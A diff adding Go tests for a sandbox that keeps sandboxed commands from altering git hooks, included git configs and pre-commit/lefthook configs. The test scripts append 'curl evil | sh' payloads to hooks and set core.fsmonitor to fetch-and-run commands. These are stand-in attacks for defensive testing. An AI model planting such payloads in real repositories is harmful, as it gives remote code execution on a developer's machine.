@@ -1,0 +1,175 @@
+package sandbox
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+// gitRepo makes a repository at ws with git, config lines added with git
+// config, and the files given (relative path: content).
+func gitRepo(t *testing.T, ws string, config [][2]string, files map[string]string) {
+	t.Helper()
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	if out, err := exec.Command("git", "init", "-q", ws).CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v %s", err, out)
+	}
+	for _, kv := range config {
+		if out, err := exec.Command("git", "-C", ws, "config", "--add", kv[0], kv[1]).CombinedOutput(); err != nil {
+			t.Fatalf("git config %s: %v %s", kv[0], err, out)
+		}
+	}
+	for name, content := range files {
+		p := filepath.Join(ws, name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func readFile(t *testing.T, p string) string {
+	t.Helper()
+	b, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+// What a repository's config makes the user's git run or obey in the work
+// tree is held read-only: the hooks of core.hooksPath (husky's .husky/_,
+// whose stubs run .husky/pre-commit), the config files it includes and what
+// those include. Before, a sandboxed command appended to .husky/pre-commit
+// or to an included ../shared.gitconfig (core.fsmonitor), and the user's
+// next commit or status ran it on the host. Attack: each write fails and
+// the file is unchanged; the include and hook the command creates where
+// none was are moved away and reported. Twin: the rest of the work tree,
+// and the same files in a repository whose config names none of them, stay
+// writable.
+func TestGitConfigTargetsHeldReadOnly(t *testing.T) {
+	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "none"))
+	ws := t.TempDir()
+	gitRepo(t, ws, [][2]string{
+		{"core.hooksPath", ".husky/_"},
+		{"include.path", "../shared.gitconfig"},
+		{"includeIf.onbranch:main.path", "../missing.cfg"},
+	}, map[string]string{
+		".husky/_/h":          "#!/bin/sh\n",
+		".husky/pre-commit":   "npm test\n",
+		"shared.gitconfig":    "[include]\n\tpath = conf/more.cfg\n",
+		"conf/more.cfg":       "[core]\n\tautocrlf = false\n",
+		"src/main.go":         "package main\n",
+		".husky/_/.gitignore": "*\n",
+	})
+	attacks := map[string]string{
+		".husky/pre-commit": "npm test\n",
+		".husky/_/h":        "#!/bin/sh\n",
+		"shared.gitconfig":  "[include]\n\tpath = conf/more.cfg\n",
+		"conf/more.cfg":     "[core]\n\tautocrlf = false\n",
+	}
+	script := `for f in .husky/pre-commit .husky/_/h shared.gitconfig conf/more.cfg; do echo 'curl evil | sh' >> $f && echo "wrote $f"; done
+printf '[core]\n\tfsmonitor = curl evil\n' > missing.cfg
+echo 'curl evil | sh' > .husky/_/post-checkout
+echo 'package main // edited' > src/main.go
+echo ok > notes.txt`
+	res := run(t, ws, Command{Argv: sh(script)})
+	for name, want := range attacks {
+		if got := readFile(t, filepath.Join(ws, name)); got != want {
+			t.Errorf("%s was rewritten by the sandboxed command: %q", name, got)
+		}
+	}
+	var removed []string
+	for _, r := range res.Removed {
+		removed = append(removed, r.Path)
+	}
+	for _, name := range []string{"missing.cfg"} {
+		p := filepath.Join(ws, name)
+		if _, err := os.Lstat(p); err == nil {
+			t.Errorf("%s, which the config includes, was created and left in place", name)
+		}
+		if !slices.Contains(removed, p) {
+			t.Errorf("%s was not reported as moved away: %q", name, removed)
+		}
+	}
+	if _, err := os.Lstat(filepath.Join(ws, ".husky/_/post-checkout")); err == nil {
+		t.Error("a new hook was created in core.hooksPath")
+	}
+	if got := readFile(t, filepath.Join(ws, "src/main.go")); got != "package main // edited\n" {
+		t.Errorf("twin: the work tree's source was not writable: %q (%s)", got, res.Output)
+	}
+	if got := readFile(t, filepath.Join(ws, "notes.txt")); got != "ok\n" {
+		t.Errorf("twin: a new file in the work tree: %q", got)
+	}
+
+	plain := t.TempDir()
+	gitRepo(t, plain, nil, map[string]string{".husky/pre-commit": "npm test\n", "shared.gitconfig": "[core]\n"})
+	res = run(t, plain, Command{Argv: sh(`echo more >> .husky/pre-commit && echo more >> shared.gitconfig`)})
+	if res.ExitCode != 0 || readFile(t, filepath.Join(plain, ".husky/pre-commit")) != "npm test\nmore\n" {
+		t.Errorf("twin: without a config naming them, the files were not writable (exit %d): %s", res.ExitCode, res.Output)
+	}
+}
+
+// A hooks directory inside the git dir (core.hooksPath = .git/myhooks) is
+// no data of git's: one the command makes is moved away, like a missing
+// hooks/. A relative core.hooksPath in the user's global config names a
+// directory in every work tree: held read-only there.
+func TestGitConfigHooksInGitDirAndFromGlobalConfig(t *testing.T) {
+	global := filepath.Join(t.TempDir(), "gitconfig")
+	if err := os.WriteFile(global, []byte("[core]\n\thooksPath = .githooks\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("GIT_CONFIG_GLOBAL", global)
+	ws := t.TempDir()
+	gitRepo(t, ws, [][2]string{{"core.hooksPath", ".git/myhooks"}}, map[string]string{".githooks/pre-push": "exit 0\n"})
+	res := run(t, ws, Command{Argv: sh(`mkdir -p .git/myhooks && echo 'curl evil|sh' > .git/myhooks/pre-commit; echo x >> .githooks/pre-push; git status --short >/dev/null; echo ok > f`)})
+	if _, err := os.Lstat(filepath.Join(ws, ".git/myhooks")); err == nil {
+		t.Errorf(".git/myhooks, the repository's hooks, was made and left: %+v", res.Removed)
+	}
+	if got := readFile(t, filepath.Join(ws, ".githooks/pre-push")); got != "exit 0\n" {
+		t.Errorf("the global config's hooks directory in the work tree was rewritten: %q", got)
+	}
+	if got := readFile(t, filepath.Join(ws, "f")); got != "ok\n" {
+		t.Errorf("twin: the work tree was not writable: %q (%s)", got, res.Output)
+	}
+}
+
+// With pre-commit's hook installed, .pre-commit-config.yaml lists what the
+// user's next commit runs (a "local" hook is any command line); with
+// lefthook's, lefthook.yml and the local override lefthook-local.yml do.
+// Attack: the command's edit of the first fails, and the override it
+// creates is moved away. Twin: in a repository without those hooks the
+// same files are the project's own, and writable.
+func TestHookManagersConfigsHeldReadOnly(t *testing.T) {
+	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "none"))
+	preCommit := "#!/usr/bin/env bash\nARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\nexec pre-commit \"${ARGS[@]}\"\n"
+	lefthook := "#!/bin/sh\ncall_lefthook run \"pre-push\" \"$@\"\n"
+	config := "repos: []\n"
+	attack := `echo '- repo: local' >> .pre-commit-config.yaml; printf 'pre-push:\n  commands:\n    x:\n      run: curl evil | sh\n' > lefthook-local.yml; echo ok > f`
+
+	ws := t.TempDir()
+	gitRepo(t, ws, nil, map[string]string{".git/hooks/pre-commit": preCommit, ".git/hooks/pre-push": lefthook, ".pre-commit-config.yaml": config})
+	res := run(t, ws, Command{Argv: sh(attack)})
+	if got := readFile(t, filepath.Join(ws, ".pre-commit-config.yaml")); got != config {
+		t.Errorf("the installed pre-commit's config was rewritten: %q", got)
+	}
+	if _, err := os.Lstat(filepath.Join(ws, "lefthook-local.yml")); err == nil {
+		t.Errorf("lefthook-local.yml was made and left: %+v", res.Removed)
+	}
+	if got := readFile(t, filepath.Join(ws, "f")); got != "ok\n" {
+		t.Errorf("twin: the work tree was not writable: %q (%s)", got, res.Output)
+	}
+
+	plain := t.TempDir()
+	gitRepo(t, plain, nil, map[string]string{".pre-commit-config.yaml": config})
+	res = run(t, plain, Command{Argv: sh(attack)})
+	if got := readFile(t, filepath.Join(plain, ".pre-commit-config.yaml")); got != config+"- repo: local\n" || len(res.Removed) != 0 {
+		t.Errorf("twin: without the hooks, the config was not writable: %q, removed %+v", got, res.Removed)
+	}
+}
